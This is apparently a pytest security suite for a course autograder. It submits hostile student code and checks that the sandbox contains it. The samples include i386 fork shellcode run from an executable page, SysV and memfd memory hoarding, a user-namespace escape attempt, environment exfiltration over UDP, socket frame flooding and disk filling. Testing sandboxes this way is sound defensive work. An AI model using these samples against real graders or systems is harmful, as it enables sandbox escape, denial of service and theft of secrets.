"""Students attacking the machine through `rnncourse grade`: escaping processes,
memory the cap does not see, the network, the instructor's environment, user
namespaces, oversized frames, the scratch disk. Each attacker is one student
in a class with honest ones; each must gain nothing, cost the others nothing,
and leave nothing of the run behind (processes, SysV objects, datagrams).

These need the kernel sandbox of strict isolation (Landlock ABI 6, seccomp on
x86_64); elsewhere they are skipped.
"""

from __future__ import annotations

import os
import platform
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import uuid

import pytest
from helpers.classroom import (
    Page,
    add_folder,
    full_class,
    grade,
    gradebook_rows,
    make_course,
    points,
    scores,
    solution,
)
from helpers.leftovers import adopting, remove_sysv, sysv_objects

from rnncourse.sandbox import landlock

pytestmark = pytest.mark.skipif(
    landlock.abi_version() < 6 or platform.machine() != "x86_64",
    reason="needs Linux on x86_64 with Landlock ABI 6 (kernel 6.12+)")

STUDENT_TIMEOUT = 4.0  # seconds per student
CHECK_TIMEOUT = 2.0  # seconds per check: the memory attacks take a few tenths at import
MEMORY_MB = 256  # the course's memory cap, lowered so that going past it is cheap
SECRET = f"instructor-secret-{uuid.uuid4().hex}"
HONEST = ("aaron", "beth", "zoe")

# i386 fork through int 0x80 (xor eax, eax; mov al, 2; int 0x80; ret), as raw
# bytes in a latin-1 file; run from an anonymous executable page, or, where
# that is refused, from the student's own file mapped executable.
FORK_ESCAPE = '''# -*- coding: latin-1 -*-
import ctypes, mmap, os
import numpy as np

CODE = "MARK>1\xc0\xb0\x02\xcd\x80\xc3"
try:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE[5:].encode("latin-1"))
    start = 0
except OSError:
    with open(__file__, "rb") as file:
        page = mmap.mmap(file.fileno(), 0, flags=mmap.MAP_PRIVATE,
                         prot=mmap.PROT_READ | mmap.PROT_EXEC)
    start = page.find(CODE.encode("latin-1")) + 5
i386_fork = ctypes.CFUNCTYPE(ctypes.c_int)(np.frombuffer(page, dtype=np.uint8).ctypes.data
                                           + start)
for _ in range(3):
    if i386_fork() == 0:  # a child: no death signal, a session of its own, spinning
        os.setsid()
        while True:
            pass
'''

SYSV_SEGMENTS = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(6):  # 6 x 64 MB: more than the cap, and kept after the process ends
    shmid = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1000 | 0o600)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    address = libc.shmat(shmid, None, 0)
    ctypes.memset(address, 1, 64 << 20)
    libc.shmdt(ctypes.c_void_p(address))
'''

MEMFD_HOARD = '''
import os
held = []
for _ in range(12):  # 12 x 32 MB, each under the file-size limit, together over the cap
    fd = os.memfd_create("held")
    for _ in range(32):
        os.write(fd, b"\\1" * (1 << 20))
    held.append(fd)
'''

USER_NAMESPACE = '''
import ctypes, socket
escaped = ctypes.CDLL(None).unshare(0x10000000 | 0x40000000) == 0  # CLONE_NEWUSER | NEWNET
if escaped:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()  # capabilities are back
else:
    raise PermissionError("no way out: no points")  # the attack pays only if it works
'''

# Stealthy: correct code that sends its environment and every input over UDP,
# and prints its environment wherever it runs (feedback shows printed output).
SPY = '''
import os, socket

def _leak(*values):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(repr((dict(os.environ), values)).encode()[:60000], ("127.0.0.1", {port}))
    except OSError:
        pass

_leak("import")
print(dict(os.environ))
'''
SPY_FUNCTIONS = '''
_real = {name: globals()[name] for name in ("sigmoid", "sigmoid_derivative", "tanh_derivative")}

def _spying(name):
    def spy(*args):
        _leak(name, *args)
        print(os.environ)
        return _real[name](*args)
    return spy

sigmoid, sigmoid_derivative, tanh_derivative = map(_spying, _real)
'''

# Every function writes 256 MB frames straight to the judge's socket.
FRAMES = solution("activations", '''
import os, stat, struct

def _flood(*args):
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            os.write(fd, struct.pack("<Q", 256 << 20))
            for _ in range(256):
                os.write(fd, b"\\0" * (1 << 20))
        except OSError:
            pass

sigmoid = sigmoid_derivative = tanh_derivative = _flood
''')

# student id: (activations.py, whether it deserves the activations points)
ATTACKERS = {
    "fork-escape": (FORK_ESCAPE + solution("activations"), False),
    "sysv-segments": (SYSV_SEGMENTS + solution("activations"), False),
    "memfd-hoard": (MEMFD_HOARD + solution("activations"), False),
    "user-namespace": (USER_NAMESPACE + solution("activations"), False),
    "spy": (None, True),  # built with the listener's port; correct code
    "huge-frames": (FRAMES, False),
}


def small_course(folder):
    root = make_course(folder, check_timeout=CHECK_TIMEOUT)
    manifest = root / "course.toml"
    text = manifest.read_text()
    assert "memory_mb = 2048" in text
    manifest.write_text(text.replace("memory_mb = 2048", f"memory_mb = {MEMORY_MB}"))
    return root


class Listener:
    """A UDP listener on 127.0.0.1 that counts what reaches it."""

    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                self.received.append(self.socket.recv(65536))
            except OSError:
                return

    def close(self) -> None:
        self.socket.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("containment")
    root = small_course(base / "course")
    subs = base / "submissions"
    listener = Listener()
    for student_id in HONEST:
        add_folder(subs, student_id, full_class())
    for student_id, (code, _) in ATTACKERS.items():
        if code is None:
            code = SPY.format(port=listener.port) + solution("activations", SPY_FUNCTIONS)
        folder = subs / student_id
        folder.mkdir(parents=True)
        (folder / "activations.py").write_bytes(code.encode("latin-1"))
        (folder / "clipping.py").write_text(solution("clipping"))
    out = base / "out"
    sysv_before = sysv_objects()
    try:
        with adopting() as adopted:
            done = grade(root, subs, out, "--jobs", "2", "--timeout", str(STUDENT_TIMEOUT),
                         env={**os.environ, "RNNCOURSE_SECRET_TOKEN": SECRET})
            survivors = adopted.survivors()
        sysv_left = sysv_objects() - sysv_before
    finally:
        remove_sysv(sysv_objects() - sysv_before)
        listener.close()
    yield {"root": root, "out": out, "done": done, "rows": gradebook_rows(out),
           "survivors": survivors, "sysv_left": sysv_left, "datagrams": listener.received}


def test_the_run_ends_normally(graded):
    done = graded["done"]
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr


def test_no_process_of_the_run_survives_it(graded):
    assert graded["survivors"] == [], "processes of the run outlived it"


def test_no_sysv_object_is_left_behind(graded):
    assert graded["sysv_left"] == set()


def test_nothing_reached_the_listener(graded):
    assert graded["datagrams"] == []


def test_honest_students_are_not_affected(graded, course):
    full = {"activations": points(course, "activations"), "clipping": points(course, "clipping")}
    for student_id in HONEST:
        row = graded["rows"][student_id]
        assert row["status"] == "graded", row["reason"]
        assert scores(row) == pytest.approx(full)


@pytest.mark.parametrize("attacker", sorted(ATTACKERS))
def test_an_attack_earns_nothing(graded, course, attacker):
    row = graded["rows"][attacker]
    assert row["status"] == "graded", row["reason"]
    deserved = points(course, "activations") if ATTACKERS[attacker][1] else 0
    assert scores(row) == pytest.approx({"activations": deserved,
                                         "clipping": points(course, "clipping")})


def test_the_instructors_environment_is_in_no_export(graded):
    out = graded["out"]
    for path in out.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path
    # what the spy printed was recorded: its own environment, the allow-list
    printed = [check.get("output", "") for exercise in graded["rows"]["spy"]["result"]["exercises"]
               for check in exercise["checks"]]
    assert any("'TMPDIR'" in text and "'PATH'" in text for text in printed)


def test_huge_frames_stop_at_the_students_time_limit(graded):
    with sqlite3.connect(graded["out"] / "gradebook.sqlite") as db:
        (seconds,) = db.execute("SELECT g.seconds FROM students s JOIN gradings g "
                                "ON g.id = s.grading_id WHERE s.student_id = 'huge-frames'"
                                ).fetchone()
    assert seconds < STUDENT_TIMEOUT + 2, f"graded for {seconds:.1f} s"
    remarks = Page((graded["out"] / "report.html").read_text()).rows("students")["huge-frames"]
    assert "over the limit" in remarks[-1], remarks


# ----------------------------------------------------------------------------
# The disk: a small scratch filesystem of its own (tmpfs, in a mount namespace
# that ends with the run, so nothing stays mounted).

SCRATCH_MB = 8
FILLER = '''
import os, tempfile, time

def _fill():
    for folder in (".", os.environ.get("TMPDIR", "."), os.path.expanduser("~")):
        for number in range(10000):
            try:
                with open(os.path.join(folder, f"fill-{number}"), "wb") as file:
                    for _ in range(64):
                        file.write(b"\\0" * (1 << 20))
            except OSError:
                break
_fill()
time.sleep(1.5)  # holds the disk while the other judge copies its students
'''
FILLER_FUNCTIONS = '''
_real = {name: globals()[name] for name in ("sigmoid", "sigmoid_derivative", "tanh_derivative")}

def _holding(name):
    def hold(*args):
        _fill()
        time.sleep(0.1)
        return _real[name](*args)
    return hold

sigmoid, sigmoid_derivative, tanh_derivative = map(_holding, _real)
'''
# Keeps the other judge busy until the filler has filled the disk: the students
# after it are then copied while the disk is held.
WAITER = "import time\ntime.sleep(1.0)\n"


def _can_mount_tmpfs(folder) -> bool:
    if shutil.which("unshare") is None or os.geteuid() != 0:
        return False
    probe = subprocess.run(["unshare", "--mount", "sh", "-c",
                            f'mount -t tmpfs -o size=1m tmpfs "{folder}"'],
                           capture_output=True, timeout=30)
    return probe.returncode == 0


def test_a_student_filling_the_disk_cannot_make_others_fail(tmp_path, course):
    small = tmp_path / "small-scratch"
    small.mkdir()
    if not _can_mount_tmpfs(small):
        pytest.skip("needs root and unshare(1) to mount a small scratch filesystem")
    root = make_course(tmp_path / "course", check_timeout=CHECK_TIMEOUT)
    subs = tmp_path / "submissions"
    add_folder(subs, "a1-filler", {"activations.py": FILLER + solution("activations",
                                                                       FILLER_FUNCTIONS),
                                   "clipping.py": solution("clipping")})
    add_folder(subs, "a2-waiter", {"activations.py": WAITER + solution("activations"),
                                   "clipping.py": solution("clipping")})
    honest = [f"b{number:02d}" for number in range(24)]
    for student_id in honest:
        add_folder(subs, student_id, full_class())
    out = tmp_path / "out"
    command = [sys.executable, "-m", "rnncourse", "grade", str(subs), "--out", str(out),
               "--jobs", "2", "--timeout", str(STUDENT_TIMEOUT)]
    with adopting() as adopted:
        done = subprocess.run(
            ["unshare", "--mount", "sh", "-c",
             f'mount -t tmpfs -o size={SCRATCH_MB}m,nr_inodes=4000 tmpfs "{small}" && exec "$@"',
             "sh", *command],
            capture_output=True, text=True, timeout=300, start_new_session=True,
            env={**os.environ, "RNNCOURSE_HOME": str(root), "TMPDIR": str(small)})
        assert adopted.survivors() == []
    assert done.returncode == 0, done.stdout + done.stderr
    rows = gradebook_rows(out)
    full = {"activations": points(course, "activations"), "clipping": points(course, "clipping")}
    for student_id in ["a2-waiter", *honest]:
        assert rows[student_id]["status"] == "graded", (student_id, rows[student_id]["reason"])
        assert scores(rows[student_id]) == pytest.approx(full), student_id
    assert rows["a1-filler"]["status"] in ("graded", "timeout"), rows["a1-filler"]["reason"]
